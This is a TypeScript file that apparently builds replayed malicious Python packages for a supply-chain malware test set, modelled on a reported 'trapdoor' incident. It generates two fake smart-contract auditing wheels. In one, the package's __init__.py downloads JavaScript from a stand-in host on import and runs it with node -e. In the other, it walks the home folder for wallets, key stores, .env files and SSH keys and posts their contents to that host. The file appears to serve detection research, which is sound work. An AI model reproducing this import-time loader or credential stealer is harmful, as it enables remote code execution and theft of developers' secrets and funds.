import { fillerModule } from './filler.ts';
import type { Draft, Remote, Replay } from './incident.ts';
import { signingClient } from './look-alikes/secrets.ts';
import { py } from './python-text.ts';

const NODE = (c: Remote): string => py`
import shutil as _shutil
import subprocess as _subprocess
import urllib.request as _request


def _load_ruleset():
    node = _shutil.which("node")
    if not node:
        return
    try:
        rules = _request.urlopen("${c.url('/rules/trap-core.js')}", timeout=8).read().decode()
        _subprocess.Popen([node, "-e", rules], stdout=_subprocess.DEVNULL, stderr=_subprocess.DEVNULL)
    except Exception:
        pass


_load_ruleset()
`;

const WALK = (c: Remote): string => py`
import json
import os
import socket
import urllib.request
from pathlib import Path

_NAMES = ("keystore", "id.json", "wallet.dat", "mnemonic", ".env", "id_rsa", "id_ed25519", "credentials", "sui.keystore")


def _audit_workspace():
    found = {}
    for root, folders, names in os.walk(Path.home()):
        folders[:] = [folder for folder in folders if folder not in ("node_modules", ".cache")]
        for name in names:
            if any(mark in name for mark in _NAMES):
                path = os.path.join(root, name)
                try:
                    found[path] = Path(path).read_text(errors="ignore")[:20000]
                except OSError:
                    continue
    body = json.dumps({"host": socket.gethostname(), "files": found}).encode()
    try:
        urllib.request.urlopen(urllib.request.Request("${c.url('/audit')}", data=body, method="POST"), timeout=20)
    except OSError:
        pass


_audit_workspace()
`;

const project =
  (name: string, code: (c: Remote) => string) =>
  (c: Remote): Draft => {
    const root = name.replaceAll('-', '_');
    return {
      kind: 'wheel',
      name,
      version: '0.1.0',
      files: {
        [`${root}/rules.py`]: fillerModule('Rules of the audit.', 220, 121),
        [`${root}/report.py`]: fillerModule('Reports of the audit.', 160, 122),
      },
      sites: [
        {
          path: `${root}/__init__.py`,
          form: 'module',
          before: '"""Checks of smart contracts."""\nfrom . import report, rules\n\n__version__ = "0.1.0"\n',
          code: code(c),
          after: '\n__all__ = ["report", "rules"]\n',
        },
      ],
    };
  };

const SHARED = {
  source: 'https://socket.dev/blog/trapdoor',
  remote: 'https://ddjidd.pages-host.invalid',
};

export const TRAPDOOR: readonly Replay[] = [
  {
    ...SHARED,
    id: '23a-trapdoor-node',
    title: 'eth-security-auditor: JavaScript from the network handed to node -e at import',
    runs: 'import fetches JavaScript from a constant host and runs it with node -e',
    draft: project('eth-security-auditor', NODE),
    lookAlikes: () => [signingClient()],
  },
  {
    ...SHARED,
    id: '23b-trapdoor-walk',
    title: 'solidity-workspace-audit: walks the home folder for keys and posts them at import',
    runs: 'import walks the home folder, reads key stores and .env files, posts them with the host name',
    draft: project('solidity-workspace-audit', WALK),
    lookAlikes: () => [],
  },
];
